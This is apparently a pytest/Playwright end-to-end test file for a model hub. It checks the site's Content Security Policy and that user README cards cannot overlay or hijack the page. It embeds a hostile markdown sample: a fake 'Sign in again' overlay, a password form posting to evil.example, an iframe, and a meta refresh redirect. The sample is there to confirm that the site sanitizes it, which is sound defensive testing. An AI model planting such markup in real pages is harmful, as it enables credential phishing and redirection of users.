"""The policy of the site in a real browser: no page breaks it, no card covers it (T90, T92)."""

from __future__ import annotations

import pytest
from huggingface_hub import HfApi
from playwright.sync_api import Browser

from tests.e2e.conftest import Person
from tests.e2e.live import FullHub
from tests.e2e.live_hub import LiveHub
from tests.e2e.routes import find_pages
from tests.e2e.screenshots import sign_in

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

_LISTEN = """
window.__violations = [];
document.addEventListener('securitypolicyviolation',
  event => window.__violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
"""
OVERLAY = b"""# Card

<div style="position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh">Sign in again</div>
<style>body{display:none} .site-header{visibility:hidden}</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<a class="skip-link" style="position:fixed;top:0;left:0;width:100%;height:100%" href="https://evil.example">x</a>
<img src="data:image/png;base64,AAAA" width="99999" height="99999" style="position:absolute;left:-5000px">
<table><tr><td width="99999">wide</td></tr></table>
<form action="https://evil.example"><input name="password" type="password"><button>Go</button></form>
<iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example">

"""
OVERLAY += b"W" * 5_000 + b"\n\n`" + b"x" * 5_000 + b"`\n"


def test_no_page_breaks_the_policy_t90(full_hub: FullHub, browser: Browser) -> None:
    cookies = sign_in(browser, full_hub.url)
    pages, wrong = find_pages(full_hub.url, full_hub.seeded, {cookie["name"]: cookie["value"] for cookie in cookies})
    assert not wrong
    context = browser.new_context()
    context.add_cookies(cookies)
    context.add_init_script(_LISTEN)
    tab = context.new_page()
    said: list[str] = []
    tab.on("console", lambda message: said.append(message.text) if "Content Security Policy" in message.text else None)
    problems = []
    for page in pages:
        if page.is_signed_in:
            answer = tab.goto(full_hub.url + page.path, wait_until="load")
            assert answer is not None
            policy = answer.headers["content-security-policy"]
            assert "unsafe-inline" not in policy
            assert "unsafe-eval" not in policy.replace("wasm-unsafe-eval", "")
            problems += [f"{page.path}: {line}" for line in tab.evaluate("window.__violations") + said]
            said.clear()
    assert len(pages) > 20
    # The listener must be able to hear one.
    tab.goto(full_hub.url)
    tab.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/x.png\" onerror=\"1\">')"
    )
    tab.wait_for_function("window.__violations.length > 0")
    context.close()
    assert not problems, "\n".join(problems)


def test_a_card_covers_nothing_but_its_own_place_t92(hub: LiveHub, browser: Browser, person: Person) -> None:
    repo_id = person.create_repo("overlay")
    HfApi(hub.url, token=person.token).upload_file(path_or_fileobj=OVERLAY, path_in_repo="README.md", repo_id=repo_id)
    for width in (390, 1440):
        context = browser.new_context(viewport={"width": width, "height": 900})
        tab = context.new_page()
        asked: list[str] = []
        tab.on("request", lambda request, asked=asked: asked.append(request.url))  # type: ignore[misc]
        tab.goto(f"{hub.url}/{repo_id}", wait_until="networkidle")
        assert tab.url == f"{hub.url}/{repo_id}"
        assert not [url for url in asked if "evil.example" in url]
        found = tab.evaluate(
            """() => {
              const card = document.querySelector('.markdown');
              const inside = [...card.querySelectorAll('*')];
              const box = document.documentElement;
              return {
                placed: inside.filter(e => ['fixed', 'sticky'].includes(getComputedStyle(e).position)).length,
                forbidden: card.querySelectorAll(
                  'style, link, form, input:not([disabled]), iframe, meta, [style]').length,
                overflow: box.scrollWidth - box.clientWidth,
                header: document.elementFromPoint(innerWidth / 2, 10).closest('header') !== null,
              };
            }"""
        )
        assert found == {"placed": 0, "forbidden": 0, "overflow": 0, "header": True}, width
        context.close()
